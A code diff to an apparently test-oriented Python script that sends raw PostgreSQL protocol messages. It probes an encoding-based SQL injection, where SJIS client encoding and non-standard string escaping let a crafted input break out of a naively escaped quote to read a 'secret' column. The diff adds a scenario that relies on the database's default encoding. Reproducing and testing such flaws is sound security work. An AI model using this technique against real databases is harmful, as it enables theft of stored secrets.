@@ -22,6 +22,9 @@ SCENARIO says how the connection is used:
    with-startup     the StartupMessage (options client_encoding=SJIS,
                     standard_conforming_strings=off) and Query(the query) in
                     one write
+   with-startup-default  the same without client_encoding: the server
+                    takes the database's encoding and names it only in
+                    its answer
 Each answer is printed: ROW: value, ERROR: message; the last line, ALIVE:
 alive, comes from a query after them on the same connection."""
 import os
@@ -108,8 +111,10 @@ escaped = raw.replace(b"\\", b"\\\\").replace(b"'", b"\\'")
 attack = b"SELECT /*" + marker.encode() + b"*/ secret FROM users WHERE name = '" + escaped + b"'"
 params = [(b"user", os.environ["PGUSER"].encode()), (b"database", os.environ["PGDATABASE"].encode())]
 
-if scenario == "with-startup":
-    params += [(b"client_encoding", b"SJIS"), (b"standard_conforming_strings", b"off")]
+if scenario in ("with-startup", "with-startup-default"):
+    if scenario == "with-startup":
+        params += [(b"client_encoding", b"SJIS")]
+    params += [(b"standard_conforming_strings", b"off")]
     sock.sendall(startup(params) + query(attack))
     answers(2)
 else:
